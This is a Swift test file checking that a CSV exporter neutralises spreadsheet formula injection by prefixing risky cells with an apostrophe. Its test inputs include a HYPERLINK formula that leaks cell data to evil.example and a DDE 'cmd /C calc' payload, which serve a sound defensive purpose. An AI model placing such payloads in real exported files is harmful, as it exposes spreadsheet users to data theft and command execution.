import Testing
@testable import ImpactStore

// OWASP's advice on CSV injection: a cell a spreadsheet would run as a formula gets a leading '.
@Test(arguments: [
    ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3", "'-2+3"),
    ("\tTAB", "'\tTAB"),
    ("\rCR", "\"'\rCR\""),
])
func cellsASpreadsheetWouldRunAreNeutralised(text: String, field: String) {
    #expect(CSVText.field(text) == field)
}

@Test(arguments: ["-0.5", "+44", "-12", "1e-3", "-1.5E+2", "plain", "", "a,b", "x=1", "M14"])
func numbersAndOrdinaryTextAreLeftAlone(text: String) {
    let expected = text.contains(",") ? "\"\(text)\"" : text
    #expect(CSVText.field(text) == expected)
}

@Test func rawOutputLeavesFormulasAsTheyAre() {
    #expect(CSVText.field("=1+1", raw: true) == "=1+1")
    #expect(CSVText.field("=1,1", raw: true) == "\"=1,1\"")
}
